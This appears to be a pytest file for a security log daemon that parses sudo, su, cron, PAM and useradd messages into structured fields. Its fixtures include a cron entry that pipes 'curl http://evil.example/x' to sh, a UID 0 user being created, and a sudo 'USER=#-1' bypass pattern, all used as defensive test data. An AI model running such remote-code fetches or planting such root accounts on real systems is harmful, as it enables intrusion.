"""sudo, su, cron, PAM and account tools."""

from typing import Any

import pytest

from daemon.events.messages import parse_message, service_of, unfold

PAM = "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root"


@pytest.mark.parametrize(
    ("program", "facility", "service"),
    [
        *((name, None, "sshd") for name in ("sshd", "sshd-session")),
        ("sshd", 10, "sshd"),
        ("sudo", 10, "sudo"),
        *((name, None, "auth") for name in ("su", "useradd", "passwd", "systemd-logind", "pkexec")),
        *((name, None, "cron") for name in ("cron", "CRON", "crontab", "crond")),
        ("vsftpd", None, "vsftpd"),
        ("clamd", None, "clamav"),
        ("guacd", None, "guacamole"),
        ("something", 10, "auth"),
        ("something", 9, "cron"),
        ("something", 3, "syslog"),
        ("kernel", None, "syslog"),
    ],
)
def test_services(program: str, facility: int | None, service: str) -> None:
    assert service_of(program, facility) == service


@pytest.mark.parametrize(
    ("program", "message", "fields"),
    [
        (
            "sudo",
            "  bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id -u",
            {
                "action": "sudo",
                "result": "success",
                "user": "bob",
                "TTY": "pts/0",
                "PWD": "/home/bob",
                "USER": "root",
                "COMMAND": "/usr/bin/id -u",
            },
        ),
        (
            "sudo",
            "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su",
            {"action": "sudo_refused", "result": "failure", "reason": "3 incorrect password attempts"},
        ),
        (
            "sudo",
            "bob : HOST=h ; TTY=x ; PWD=/ ; USER=root ; GROUP=adm ; TSID=1 ; COMMAND=/bin/su",
            {"action": "sudo", "GROUP": "adm", "USER": "root"},
        ),
        ("sudo", "bob : TTY=x ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh", {"USER": "#-1"}),
        (
            "sudo",
            "bob : TTY=x ; PWD=/ ; USER=alice ; COMMAND=/bin/true ; USER=root ; COMMAND=/bin/sh",
            {"USER": ("alice", "root")},
        ),
        (
            "sudo",
            "pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)",
            {"action": "session_opened", "user": "root", "by": "bob"},
        ),
        (
            "su",
            "Successful su for root by bob",
            {"action": "su", "result": "success", "user": "bob", "as_user": "root"},
        ),
        ("su", "FAILED SU (to root) bob on pts/0", {"action": "su", "result": "failure", "user": "bob"}),
        ("su", "(to root) bob on none", {"action": "su", "result": "success", "as_user": "root"}),
        (
            "CRON",
            "(root) CMD (curl http://evil.example/x | sh)",
            {"action": "cron_cmd", "user": "root", "command": "curl http://evil.example/x | sh"},
        ),
        ("crontab", "(bob) BEGIN EDIT (bob)", {"action": "cron_begin_edit", "user": "bob"}),
        (
            "useradd",
            "new user: name=eve, UID=0, GID=0, home=/, shell=/bin/sh",
            {"action": "user_added", "target": "eve", "uid": "0"},
        ),
        ("useradd", "new group: name=eve, GID=1", {"action": "group_added", "target": "eve"}),
        ("usermod", "add 'eve' to shadow group 'sudo'", {"action": "member_added", "target": "eve", "group": "sudo"}),
        ("userdel", "delete user 'eve'", {"action": "user_removed", "target": "eve"}),
        (
            "passwd",
            "pam_unix(passwd:chauthtok): password changed for eve",
            {"action": "password_changed", "target": "eve"},
        ),
        ("systemd-logind", "New session 5 of user bob.", {"action": "new_session", "user": "bob"}),
        ("sshd", PAM, {"action": "auth_failure", "src_ip": "192.0.2.1", "user": "root", "pam_module": "pam_unix"}),
        ("sshd", PAM.replace("user=root", "user=x rhost=198.51.100.6  user=root"), {"src_ip": "192.0.2.1"}),
        (
            "sshd",
            "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root",
            {"action": "auth_failure", "src_ip": "192.0.2.1"},
        ),
    ],
)
def test_messages(program: str, message: str, fields: dict[str, Any]) -> None:
    assert parse_message(program, message).items() >= fields.items()


@pytest.mark.parametrize(
    ("message", "times", "once"),
    [
        ("hello", 1, "hello"),
        ("message repeated 5 times: [ hello]", 5, "hello"),
        ("message repeated 2 times: [hello [a] ]", 2, "hello [a] "),
        ("message repeated 0 times: [ hello]", 1, "hello"),
        ("message repeated 999999999 times: [ hello]", 999_999_999, "hello"),
        ("message repeated 9999999999 times: [ hello]", 1, "message repeated 9999999999 times: [ hello]"),
        ("message repeated 5 times: hello", 1, "message repeated 5 times: hello"),
        ("x message repeated 5 times: [ hello]", 1, "x message repeated 5 times: [ hello]"),
    ],
)
def test_a_folded_message_is_unfolded(message: str, times: int, once: str) -> None:
    assert unfold(message) == (times, once)


def test_a_fold_of_folds_is_no_trap() -> None:
    times, once = unfold("message repeated 2 times: [ " * 500 + "x" + "]" * 500)
    assert (times, unfold(once)[0]) == (2, 2)
    assert parse_message("sshd", once) == {}


@pytest.mark.parametrize("program", ["sudo", "su", "CRON", "useradd", "nginx", ""])
def test_the_unknown_has_no_fields(program: str) -> None:
    for message in ("", "x", "bob : TTY=", "bob : USER=root ; COMMAND=x", "((((", "pam_unix(x:y): z"):
        assert "action" not in parse_message(program, message)


def test_long_hostile_messages_cost_little() -> None:
    for filler in (" ; USER=a ; PWD=b ; TTY=c", " ; COMMAND=x ; USER=", " rhost=x", " on ", " by ", "  "):
        for program in ("sudo", "su", "sshd", "CRON"):
            parse_message(program, f"bob : TTY=x ; PWD={filler * 600}")
            parse_message(program, f"(to {filler * 600}")
            parse_message(program, PAM.replace("192", filler * 600))
            assert parse_message(program, filler * 10_000) == {}
